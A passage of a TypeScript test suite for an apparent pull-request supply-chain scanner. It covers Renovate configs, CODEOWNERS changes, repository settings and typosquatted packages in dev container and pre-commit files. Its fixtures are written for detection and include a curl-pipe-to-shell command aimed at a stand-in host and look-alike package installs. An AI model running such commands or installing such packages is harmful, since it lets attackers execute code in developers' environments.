    expect(sev('curl -sSfo schema.json https://schemas.example/v2.json')).toEqual(['renovate-post-upgrade-command:medium']);
  });
  it('reads JSON5 configuration as Renovate does: identifier keys, single quotes, comments, trailing commas (a code formatter\'s .github/renovate.json5)', () => {
    const json5 = (extra: string) => `{\n  // Pin everything\n  labels: ['dependency'],\n  extends: [':pinDependencies', "helpers:pinGitHubActionDigests",],\n  ${extra}\n  packageRules: [\n    { groupName: 'non-major dev-dependencies', matchDepTypes: ['devDependencies'], matchUpdateTypes: ['minor', 'patch'], },\n  ],\n}\n`;
    const clean = extractRenovate(json5(''), '.github/renovate.json5');
    expect(clean.skipReason).toBeUndefined();
    expect(clean.findings ?? []).toEqual([]);
    expect((extractRenovate(json5("postUpgradeTasks: { commands: ['curl -s https://agent-sync.example/r | sh'] },"), '.github/renovate.json5').findings ?? []).map((f) => `${f.id}:${f.severity}`)).toEqual(['renovate-post-upgrade-command:high']);
    expect((extractRenovate(json5('automerge: true,'), 'renovate.json5').findings ?? []).map((f) => f.id)).toEqual(['renovate-automerge']);
    // A routine edit of it reads as one the rules found nothing in.
    expect(isRoutineCiChange('.github/renovate.json5', json5(''), json5('').replace("'dependency'", "'dependencies'"))).toBe(true);
    expect(isRoutineCiChange('.github/renovate.json5', json5(''), json5('automerge: true,'))).toBe(false);
  });
  it('still skips what is neither JSON nor JSON5', () => {
    expect(extractRenovate('labels = ["dependency"]\n', 'renovate.json5').skipReason).toBe('not JSON or JSON5');
    expect(extractRenovate('{ retries: 0x10 }', 'renovate.json5').skipReason).toBe('not JSON or JSON5');
  });
  it('does not report automerge of patches and minors', () => {
    expect(found('renovate.json', '{ "extends": ["config:recommended"] }', '{ "extends": ["config:recommended"], "packageRules": [{ "matchUpdateTypes": ["minor", "patch"], "automerge": true }] }')).toEqual([]);
  });
  it('names what a rule limited by manager, dependency type or file automerges, not every update', () => {
    const titles = (config: unknown) => (extractRenovate(JSON.stringify(config), 'renovate.json').findings ?? []).map((f) => f.title);
    expect(titles({ packageRules: [{ matchManagers: ['github-actions'], pinDigests: true, automerge: true }] })).toEqual(['Renovate merges the updates of matchManagers: github-actions without a review']);
    expect(titles({ packageRules: [{ matchDepTypes: 'devDependencies', automerge: true }] })).toEqual(['Renovate merges the updates of matchDepTypes: devDependencies without a review']);
    expect(titles({ automerge: true })).toEqual(['Renovate merges every update without a review']);
  });
});

describe('codeowners-weakened', () => {
  const owners = (auth: string) => `# Owners\n* @acme/maintainers\n/src/auth/ ${auth}\n/docs/ @acme/docs\n`;
  it("reports owners removed from a pattern that covers the PR's own changes", () => {
    const snapshot = snapshotOf(change('.github/CODEOWNERS', owners('@acme/security @acme/maintainers'), owners('@acme/maintainers')), change('src/auth/session.ts', 'a\n', 'b\n'));
    const findings = analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.filter((f) => f.id === 'codeowners-weakened');
    expect(findings.map((f) => [f.severity, f.title])).toEqual([['high', 'CODEOWNERS drops @acme/security from /src/auth/, which this PR changes']]);
  });
  it('is high when the files are handed to a new owner or left without one; low when the author only removes themselves', () => {
    const weakened = (base: string, head: string, author?: string) => {
      const snapshot = { ...snapshotOf(change('.github/CODEOWNERS', owners(base), owners(head)), change('src/auth/session.ts', 'a\n', 'b\n')) };
      const withAuthor = author === undefined ? snapshot : { ...snapshot, author: { ...snapshot.author, login: author } };
      return analyzeSupplyChain(withAuthor, makeContext(undefined, withAuthor)).findings.filter((f) => f.id === 'codeowners-weakened').map((f) => f.severity);
    };
    expect(weakened('@acme/security @acme/maintainers', '@acme/maintainers @mallory')).toEqual(['high']);
    expect(weakened('@acme/security', '@mallory')).toEqual(['high']);
    expect(weakened('@acme/security', '')).toEqual(['high']);
    expect(weakened('@acme/security @Jane-Doe', '@acme/security', 'jane-doe')).toEqual(['low']);
    expect(weakened('@acme/security @jane-doe @acme/maintainers', '@acme/maintainers', 'jane-doe')).toEqual(['high']);
  });
  it('is medium when owners only leave a list and the PR changes nothing under it but ownership lists and docs', () => {
    const everything = (list: string) => `* ${list}\n`;
    const leave = snapshotOf(change('.github/CODEOWNERS', everything('@ann @bob @cho @dee'), everything('@bob @cho @dee')), change('MAINTAINERS.md', '* Ann\n* Bob\n', '* Bob\n'));
    expect(analyzeSupplyChain(leave, makeContext(undefined, leave)).findings.filter((f) => f.id === 'codeowners-weakened').map((f) => f.severity)).toEqual(['medium']);
    const withCode = snapshotOf(change('.github/CODEOWNERS', everything('@ann @bob @cho @dee'), everything('@bob @cho @dee')), change('MAINTAINERS.md', '* Ann\n* Bob\n', '* Bob\n'), change('src/server.go', 'a\n', 'b\n'));
    expect(analyzeSupplyChain(withCode, makeContext(undefined, withCode)).findings.filter((f) => f.id === 'codeowners-weakened').map((f) => f.severity)).toEqual(['high']);
  });
  it('is low for a handover in a PR of its own that the removed owners approve (modeled on actions/setup-node "Update CODEOWNERS"), high beside code or when others own CODEOWNERS', () => {
    const sev = (snapshot: ReturnType<typeof snapshotOf>) => analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.filter((f) => f.id === 'codeowners-weakened').map((f) => f.severity);
    expect(sev(snapshotOf(change('.github/CODEOWNERS', '* @actions/spark\n', '* @actions/actions-service\n')))).toEqual(['low']);
    // The same handover beside a code change, and a team that does not own CODEOWNERS itself handing over src/.
    expect(sev(snapshotOf(change('.github/CODEOWNERS', '* @actions/spark\n', '* @actions/actions-service\n'), change('src/main.ts', 'a\n', 'b\n')))).toEqual(['high']);
    const split = (src: string) => `* @acme/maintainers\n/src/ ${src}\n/.github/ @acme/maintainers\n`;
    expect(sev(snapshotOf(change('.github/CODEOWNERS', split('@acme/security'), split('@mallory')), change('src/README.md', 'a\n', 'b\n')))).toEqual(['high']);
  });
  it("weighs a component removed with its ownership rule as a leave (medium), not as protected code changed; a deletion under a rule that stays, or an edit there, is still high", () => {
    // Modeled on a tracing library moving one of its crates to a repository of its own.
    const rules = (otel: boolean) => `* @hawk @acme/tracing\n/tracing-core/ @hawk @acme/tracing\n${otel ? '/tracing-otel/ @julian @acme/tracing\n' : ''}/tracing-appender/ @zeki @acme/tracing\n`;
    const gone = (path: string) => change(path, 'pub fn layer() {}\n', null);
    const sev = (snapshot: ReturnType<typeof snapshotOf>) => analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.filter((f) => f.id === 'codeowners-weakened').map((f) => f.severity);
    expect(sev(snapshotOf(change('.github/CODEOWNERS', rules(true), rules(false)), gone('tracing-otel/src/lib.rs'), gone('tracing-otel/src/layer.rs'), change('Cargo.toml', '[workspace]\nmembers = ["tracing-core", "tracing-otel"]\n', '[workspace]\nmembers = ["tracing-core"]\n')))).toEqual(['medium']);
    // The rule goes but a file under it is edited, not deleted: protected code changes with its owners.
    expect(sev(snapshotOf(change('.github/CODEOWNERS', rules(true), rules(false)), gone('tracing-otel/src/lib.rs'), change('tracing-otel/src/layer.rs', 'a\n', 'b\n')))).toEqual(['high']);
    // The rule stays with one owner fewer while a file under it is deleted: still high.
    const fewer = rules(true).replace('/tracing-otel/ @julian @acme/tracing', '/tracing-otel/ @acme/tracing');
    expect(sev(snapshotOf(change('.github/CODEOWNERS', rules(true), fewer), gone('tracing-otel/src/lib.rs')))).toEqual(['high']);
  });
  it('is low for a component the PR adds under a rule of its own that keeps an owner of the rule above it (modeled on a contrib repository adding a resource detector); high when a file under it existed, or no owner stays', () => {
    const rules = (extra: string) => `* @acme/approvers\ndetectors/azure/ @acme/approvers @pyo\n${extra}detectors/gcp/ @acme/approvers @dash\n`;
    const sev = (snapshot: ReturnType<typeof snapshotOf>) => analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.filter((f) => f.id === 'codeowners-weakened').map((f) => [f.severity, f.title]);
    const added = (path: string) => change(path, null, 'package appservice\n');
    expect(sev(snapshotOf(change('CODEOWNERS', rules(''), rules('detectors/azure/appservice @acme/approvers @lewis\n')), added('detectors/azure/appservice/detector.go'), added('detectors/azure/appservice/detector_test.go')))).toEqual([
      ['low', 'CODEOWNERS gives detectors/azure/appservice, which this PR adds, owners of its own'],
    ]);
    // A file of the folder edited, not added: protected code changes with its owners.
    expect(sev(snapshotOf(change('CODEOWNERS', rules(''), rules('detectors/azure/appservice @acme/approvers @lewis\n')), added('detectors/azure/appservice/detector.go'), change('detectors/azure/appservice/util.go', 'a\n', 'b\n')))[0]?.[0]).toBe('high');
    // No owner of the rule above kept: the new files are handed to someone else alone.
    expect(sev(snapshotOf(change('CODEOWNERS', rules(''), rules('detectors/azure/appservice @lewis\n')), added('detectors/azure/appservice/detector.go')))[0]?.[0]).toBe('high');
    // An added file under a rule the base had, that drops an owner: as before.
    expect(sev(snapshotOf(change('CODEOWNERS', rules(''), rules('').replace(' @pyo', '')), added('detectors/azure/appservice/detector.go')))[0]?.[0]).toBe('high');
  });
  it('does not report added owners, or removals for paths the PR does not touch', () => {
    const added = snapshotOf(change('.github/CODEOWNERS', owners('@acme/security'), owners('@acme/security @acme/maintainers')), change('src/auth/session.ts', 'a\n', 'b\n'));
    const elsewhere = snapshotOf(change('.github/CODEOWNERS', owners('@acme/security'), owners('@acme/maintainers')), change('docs/index.md', 'a\n', 'b\n'));
    for (const snapshot of [added, elsewhere]) {
      expect(analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.filter((f) => f.id === 'codeowners-weakened')).toEqual([]);
    }
  });
});

describe('repo-settings-weakened (.github/settings.yml, the Settings app)', () => {
  const SETTINGS = (extra: string) => `repository:
  name: widgets
  private: true
collaborators:
  - username: ingrid-h
    permission: admin
branches:
  - name: main
    protection:
      required_pull_request_reviews:
        required_approving_review_count: 2
        require_code_owner_reviews: true
      required_status_checks:
        strict: true
        contexts: [test]
      enforce_admins: true
${extra}`;

  it('is read as configuration', () => {
    expect(matchManagerFile('.github/settings.yml')?.file.kind).toBe('config');
    expect(matchManagerFile('config/settings.yml')).toBeNull();
  });

  it('reports access granted and protection taken off, each new weak state once', () => {
    const granted = SETTINGS('').replace('collaborators:\n', 'collaborators:\n  - username: quick-fixes-dev\n    permission: admin\n  - username: docs-bot\n    permission: push\n');
    expect(found('.github/settings.yml', SETTINGS(''), granted).sort()).toEqual(['repo-settings-weakened:high', 'repo-settings-weakened:medium']);
    const unprotected = SETTINGS('').replace(/ {4}protection:\n[\s\S]*$/, '    protection: null\n');
    expect(found('.github/settings.yml', SETTINGS(''), unprotected)).toEqual(['repo-settings-weakened:high']);
    const noReviews = SETTINGS('').replace('required_approving_review_count: 2', 'required_approving_review_count: 0').replace('require_code_owner_reviews: true', 'require_code_owner_reviews: false');
    expect(found('.github/settings.yml', SETTINGS(''), noReviews).sort()).toEqual(['repo-settings-weakened:high', 'repo-settings-weakened:medium']);
    expect(found('.github/settings.yml', SETTINGS(''), SETTINGS('').replace('private: true', 'private: false'))).toEqual(['repo-settings-weakened:high']);
    expect(found('.github/settings.yml', SETTINGS(''), SETTINGS('      allow_force_pushes: true\n'))).toEqual(['repo-settings-weakened:medium']);
  });

  it('is quiet on settings that stay or get stricter, and on what the base already had', () => {
    expect(found('.github/settings.yml', SETTINGS(''), SETTINGS('').replace('required_approving_review_count: 2', 'required_approving_review_count: 3').replace('name: widgets', 'name: widgets\n  description: Widgets for everyone'))).toEqual([]);
    const already = SETTINGS('').replace('collaborators:\n', 'collaborators:\n  - username: ops-team-lead\n    permission: maintain\n');
    expect(found('.github/settings.yml', already, already.replace('name: widgets', 'name: widgets\n  has_wiki: false'))).toEqual([]);
    expect(found('.github/settings.yml', SETTINGS(''), SETTINGS('').replace('collaborators:\n', 'collaborators:\n  - username: reader\n    permission: pull\n'))).toEqual([]);
  });

  it('reports required status checks dropped one by one, low; checks added, kept, renamed into the newer list, or a branch newly protected stay quiet (calib60)', () => {
    const withChecks = (list: string) => SETTINGS('').replace('contexts: [test]', `contexts: [${list}]`);
    // A metrics library's "Drop support for <go-1.22" took its retired CircleCI jobs off main's required checks.
    expect(found('.github/settings.yml', withChecks('DCO, "ci/circleci: go-1-17", "ci/circleci: go-1-18"'), withChecks('DCO'))).toEqual(['repo-settings-weakened:low']);
    expect(found('.github/settings.yml', withChecks('DCO, test'), withChecks('DCO'))).toEqual(['repo-settings-weakened:low']);
    expect(found('.github/settings.yml', withChecks('DCO'), withChecks('DCO, test'))).toEqual([]);
    expect(found('.github/settings.yml', withChecks('DCO, test'), withChecks('test, DCO'))).toEqual([]);
    expect(found('.github/settings.yml', withChecks('DCO, test'), SETTINGS('').replace('contexts: [test]', 'checks:\n          - context: DCO\n          - context: test'))).toEqual([]);
    expect(found('.github/settings.yml', withChecks('DCO').replace('- name: main', '- name: release'), withChecks('DCO').replace('- name: main', '- name: release') + '  - name: main\n    protection:\n      required_status_checks:\n        contexts: []\n')).toEqual([]);
  });
});

describe('typosquat in dev container commands and pre-commit hooks', () => {
  const dc = (extra: string) => `{\n  "name": "app",\n  "image": "mcr.microsoft.com/devcontainers/typescript-node:1-22"${extra}\n}\n`;
  const hooks = (lines: string) => `repos:\n  - repo: local\n    hooks:\n${lines}`;
  /** mypy's pre-commit mirror with these additional_dependencies, then `more` repos. */
  const mypy = (deps: string, more = '') => `repos:\n  - repo: https://github.com/pre-commit/mirrors-mypy\n    rev: v1.11.2\n    hooks:\n      - id: mypy\n        additional_dependencies: [${deps}]\n${more}`;
  it('reports a look-alike a lifecycle command or a Gitpod task installs, high, beside the command finding', () => {
    expect(found('.devcontainer/devcontainer.json', dc(''), dc(',\n  "postCreateCommand": "npm i -g typescirpt && pip install --user reqeusts"'))).toEqual(['typosquat:high', 'typosquat:high', 'devcontainer-lifecycle-command:medium']);
    expect(found('.gitpod.yml', null, 'tasks:\n  - init: npx -y prettierr --check .\n')).toEqual(['typosquat:high', 'devcontainer-lifecycle-command:low']);
  });
  it("reports a look-alike in a hook's additional_dependencies by its language, or by its spec without one, and in a local hook's entry", () => {
    expect(found('.pre-commit-config.yaml', hooks("      - id: fmt\n        name: fmt\n        entry: prettier --write\n        language: node\n        additional_dependencies: ['prettier@3.3.3']\n"), hooks("      - id: fmt\n        name: fmt\n        entry: prettier --write\n        language: node\n        additional_dependencies: ['prettierr@3.3.3']\n"))).toEqual(['typosquat:high']);
    expect(found('.pre-commit-config.yaml', mypy("'types-requests==2.32.0.20240712'"), mypy("'types-reqeusts==2.32.0.20240712'"))).toEqual(['typosquat:high']);
    expect(found('.pre-commit-config.yaml', hooks('      - id: lint\n        name: lint\n        entry: npx eslint .\n        language: system\n'), hooks('      - id: lint\n        name: lint\n        entry: npx -y prettierr --check .\n        language: system\n'))).toContain('typosquat:high');
  });
  it('is quiet on popular names, their plugins, Go modules and paths', () => {
    expect(found('.devcontainer/devcontainer.json', dc(''), dc(',\n  "postCreateCommand": "npm i -g typescript pnpm && pip install --user -r requirements-dev.txt && go install golang.org/x/tools/gopls@latest"'))).toEqual(['devcontainer-lifecycle-command:medium']);
    const remote = (deps: string) => mypy(deps, "  - repo: https://github.com/rhysd/actionlint\n    rev: v1.7.1\n    hooks:\n      - id: actionlint\n        additional_dependencies: ['github.com/wasilibs/go-shellcheck/cmd/shellcheck@v0.10.0']\n");
    expect(found('.pre-commit-config.yaml', remote("'types-requests'"), remote("'types-requests', 'types-PyYAML==6.0.12', 'pydantic>=2', 'mypy-extensions', '@types/node@20'"))).toEqual([]);
  });
});
